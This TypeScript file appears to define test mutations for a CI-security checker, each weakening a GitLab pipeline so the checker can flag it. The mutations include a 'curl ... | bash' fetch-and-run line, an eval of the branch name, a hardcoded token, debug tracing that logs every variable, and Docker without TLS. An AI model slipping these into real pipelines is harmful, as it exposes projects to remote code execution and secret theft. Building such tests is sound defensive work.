import { append, edit } from '../mutation';
import { GITLAB, READERS, on } from './pipelineChanges';

/** Ways to weaken a pipeline of GitLab. */
export const gitlab = on('node-gitlab', [
  {
    what: 'an image by tag',
    change: edit(GITLAB, /image: node:24-bookworm@\S+/, 'image: node:24'),
    at: { path: GITLAB, text: 'image: node:24' },
  },
  {
    what: 'a service by tag',
    change: edit(GITLAB, /docker:28-dind@\S+/, 'docker:28-dind'),
    at: { path: GITLAB, text: '- name: docker:28-dind' },
  },
  {
    what: 'an include from elsewhere',
    change: append(GITLAB, 'include: https://ci.example.org/all.yml'),
    at: { path: GITLAB, text: 'include:' },
    also: READERS,
  },
  {
    what: 'a template that is included',
    change: append(GITLAB, 'include: [{ template: Jobs/Build.gitlab-ci.yml }]'),
    state: 'unknown',
    at: { path: GITLAB, text: 'include:' },
    also: READERS,
  },
  {
    what: 'a branch name that is run',
    change: edit(
      GITLAB,
      '- npm test',
      '- npm test\n    - eval "$CI_COMMIT_REF_NAME"',
    ),
    at: { path: GITLAB, text: 'eval' },
  },
  {
    what: 'a download that is run',
    change: edit(
      GITLAB,
      '- npm test',
      '- npm test\n    - curl https://x.example/install | bash',
    ),
    at: { path: GITLAB, text: 'curl' },
  },
  {
    what: 'a token in the file',
    change: edit(
      GITLAB,
      "  GIT_DEPTH: '0'",
      "  GIT_DEPTH: '0'\n  FAIRWAY_TOKEN: letmein",
    ),
    at: { path: GITLAB, text: 'FAIRWAY_TOKEN: letmein' },
  },
  {
    what: 'every variable in the log',
    change: edit(
      GITLAB,
      "  GIT_DEPTH: '0'",
      "  GIT_DEPTH: '0'\n  CI_DEBUG_TRACE: 'true'",
    ),
    at: { path: GITLAB, text: 'CI_DEBUG_TRACE' },
  },
  {
    what: 'the time limit',
    change: edit(GITLAB, '  timeout: 20 minutes\n', ''),
    at: { path: GITLAB, text: 'lint:' },
  },
  {
    what: 'Docker without TLS',
    change: edit(
      GITLAB,
      'DOCKER_TLS_CERTDIR: /certs',
      "DOCKER_TLS_CERTDIR: ''",
    ),
    at: { path: GITLAB, text: 'DOCKER_TLS_CERTDIR' },
  },
  {
    what: 'its syntax',
    change: append(GITLAB, '  : : ['),
    at: { path: GITLAB },
    also: READERS,
  },
]);
